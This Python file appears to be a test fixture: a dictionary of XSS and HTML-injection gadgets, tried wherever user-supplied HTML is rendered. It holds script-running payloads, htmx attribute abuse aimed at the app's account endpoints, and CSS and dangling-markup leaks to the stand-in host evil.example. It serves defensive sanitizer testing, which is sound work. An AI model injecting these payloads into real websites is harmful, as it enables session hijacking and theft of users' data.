# ruff: noqa: E501 - a gadget is one line
"""What somebody could write to make a page of ours run, load or tell something. Each is tried wherever HTML or text of others is shown."""

RUN = "for(const w of [self,parent,top])try{w.fired=1}catch(e){};alert(1)"
ELSEWHERE = "https://evil.example"
HTMX = "/static/django_htmx/htmx-2.min.js"

GADGETS = {
    "script element": f"<script>{RUN}</script>",
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image that loads": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{RUN}">',
    "svg that loads": f'<svg onload="{RUN}"><circle r=9 /></svg>',
    "svg animation": f'<svg><animate attributeName=x dur=1s onbegin="{RUN}" /></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "link with a script for an address": f'<a href="javascript:{RUN}">click</a>',
    "link with a disguised one": f'<a href="java&#10;script:{RUN}">click</a>',
    "svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    "math link": f'<math href="javascript:{RUN}"><mtext>click</mtext></math>',
    "frame with its own text": f'<iframe srcdoc="<script>parent.fired=1;{RUN}</script>"></iframe>',
    "frame with a gadget for its text": f'<iframe srcdoc="<script src={HTMX}></script><p hx-get=/account/ hx-trigger=load>"></iframe>',
    "frame with a script for an address": f'<iframe src="javascript:{RUN}"></iframe>',
    "details that open": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "focus taken at once": f'<input autofocus onfocus="{RUN}"><textarea autofocus onfocus="{RUN}"></textarea>',
    "page events": f'<body onpageshow="{RUN}" onload="{RUN}"></body>',
    "media that fails": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}" onloadstart="{RUN}"></audio>',
    "form with a script for an action": f'<form action="javascript:{RUN}"><button>click</button></form>',
    "button with its own action": f'<form><button formaction="javascript:{RUN}">click</button></form>',
    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "animation of a style": f'<style>@keyframes k{{}}</style><p style="animation:k" onanimationstart="{RUN}">x</p>',
    "pointer events": f'<p onpointerover="{RUN}" onclick="{RUN}">click</p>',
    "base and refresh": f'<base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "refresh to elsewhere": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "broken markup": f'"><img src=x onerror="{RUN}"><!-- --!><script>{RUN}</script>',
    "end of a script": f"</script></textarea></title></style><script>{RUN}</script>",
    "our own script in a style in svg": (
        f'<svg><style><p><script src="{HTMX}"></script><div hx-get="/onboarding/identity/" hx-trigger="load" '
        f'hx-on::after-request="{RUN}"></div></style></svg>'
    ),
    "our own script in svg": f'<svg><p><script src="{HTMX}"></script><div hx-get="/account/" hx-trigger="load"></div></svg>',
    "our own script in a style in math": f'<math><mtext><table><mglyph><style><!--</style><script src="{HTMX}"></script><img title="--><script src={HTMX}></script>">',
    "attributes of htmx": f'<div hx-get="/api/v1/me" hx-trigger="load" hx-on::load="{RUN}" data-hx-post="/account/logout/">x</div>',
    "a module of ours": '<link rel="modulepreload" href="/static/tasks/workspace.js"><script type="module" src="/static/tasks/clock.js"></script>',
    "style that asks elsewhere": (
        f"<style>@import url({ELSEWHERE}/i.css);input[value^=a]{{background:url({ELSEWHERE}/a)}}*{{background:url({ELSEWHERE}/b)}}</style>"
        f"<p style=\"background:url({ELSEWHERE}/c);background-image:image-set('{ELSEWHERE}/d' 1x)\">x</p>"
    ),
    "style in svg that asks elsewhere": f"<svg><style>*{{background:url({ELSEWHERE}/e)}}</style></svg><math><style>*{{cursor:url({ELSEWHERE}/f),auto}}</style></math>",
    "style sheet and font from elsewhere": (
        f'<link rel="stylesheet" href="{ELSEWHERE}/s.css"><style>@font-face{{font-family:z;src:url({ELSEWHERE}/z.woff)}}*{{font-family:z}}</style>'
    ),
    "dangling markup": f"<img src='{ELSEWHERE}/?",
    "dangling base and target": f'<a href="{ELSEWHERE}/">click</a><base target="',
    "dangling form": f'<form action="{ELSEWHERE}/"><input type=submit value=click><textarea name=rest>',
    "pictures and media from elsewhere": (
        f'<img src="{ELSEWHERE}/x.png"><img srcset="{ELSEWHERE}/y.png 1x"><video poster="{ELSEWHERE}/p.png" src="{ELSEWHERE}/v.webm"></video>'
        f'<svg><image href="{ELSEWHERE}/i.png" /><use href="{ELSEWHERE}/u.svg#a" /></svg><input type=image src="{ELSEWHERE}/n.png">'
    ),
    "hints to the browser": f'<link rel="preconnect" href="{ELSEWHERE}"><link rel="prefetch" href="{ELSEWHERE}/p"><link rel="dns-prefetch" href="//evil.example">',
    "frames and objects from elsewhere": f'<iframe src="{ELSEWHERE}/"></iframe><object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e"><portal src="{ELSEWHERE}/">',
    "names that stand for others": '<form id="editor" name="parent"><input name="postMessage" id="Fairhand"></form><a id="APP_SETTINGS" name="LabelStudio">x</a>',
}
